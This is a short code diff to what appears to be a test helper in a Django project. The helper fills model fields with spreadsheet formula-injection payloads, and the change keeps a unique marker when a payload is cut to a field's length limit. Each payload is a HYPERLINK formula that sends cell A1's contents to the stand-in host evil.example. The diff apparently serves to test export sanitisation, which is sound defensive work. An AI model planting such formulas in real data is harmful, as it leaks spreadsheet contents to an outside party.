@@ -98,8 +98,11 @@ def formula_texts(model: type[models.Model], tag: str = "") -> dict[str, str]:
     ]
     for n, field in enumerate(fields):
         lead = FORMULA_LEADS[n % len(FORMULA_LEADS)]
-        text = f'{lead}HYPERLINK("http://evil.example/?"&A1,"{n}{tag}")'
-        values[field.name] = text[: field.max_length] if field.max_length else text
+        mark = f"{n}{tag}"  # kept when cut: a unique code stays unique per record planted
+        text = f'{lead}HYPERLINK("http://evil.example/?"&A1,"{mark}")'
+        if field.max_length and len(text) > field.max_length:
+            text = text[: field.max_length - len(mark)] + mark
+        values[field.name] = text
     return values
 
 
